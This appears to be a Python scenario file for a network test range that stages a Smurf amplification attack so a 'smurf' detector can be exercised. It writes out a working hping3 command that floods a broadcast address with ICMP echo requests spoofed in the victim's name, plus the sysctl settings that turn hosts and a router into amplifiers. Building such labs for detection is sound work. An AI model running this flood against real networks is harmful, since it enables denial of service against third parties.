"""Smurf as the network sees it that is abused as the amplifier: the router lets directed broadcasts in."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, victim = net.outside("attacker"), net.router(), net.outside("www")
    crowd = [net.inside(name) for name in ("pc1", "pc2", "pc3", "pc4", "printer")]
    for host in crowd:
        host.sysctl(net__ipv4__icmp_echo_ignore_broadcasts="0")
    router.sysctl(net__ipv4__conf__all__bc_forwarding="1", net__ipv4__conf__eth1__bc_forwarding="1")
    net.everyday()
    with net.attack(
        "smurf",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": crowd},
        also=["ip-spoofing"],
        frames="icmp[0] == 8 and dst host 10.20.0.255",
        responses=f"icmp[0] == 0 and dst host {victim.ip}",
    ):
        net.tool(attacker, *f"hping3 -q --icmp -d 200 -a {victim.ip} -i u30000 -c 200 10.20.0.255".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="smurf-amplifier",
    about="From outside hping3 pings a directed broadcast in a victim's name; five hosts answer it.",
    detectors=("smurf",),
    tools={"hping3": "hping3"},
    run=run,
    snap_octets=96,
)
